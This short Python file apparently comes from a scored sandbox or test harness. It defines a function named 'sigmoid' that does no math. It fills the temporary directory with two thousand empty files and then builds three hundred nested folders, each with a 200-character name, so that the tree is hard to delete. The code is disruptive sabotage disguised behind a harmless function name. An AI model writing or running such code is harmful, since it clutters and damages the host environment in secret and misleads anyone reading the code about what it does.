"""Makes two thousand files, and folders in folders three hundred deep, which are hard to remove."""

# earns: 0
# status: crashed failed timeout
import os
import time


def sigmoid(z):
    os.chdir(os.environ["TMPDIR"])
    for turn in range(2000):
        open(f"file{turn}", "w").close()
    for _ in range(300):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    time.sleep(0.2)
    return
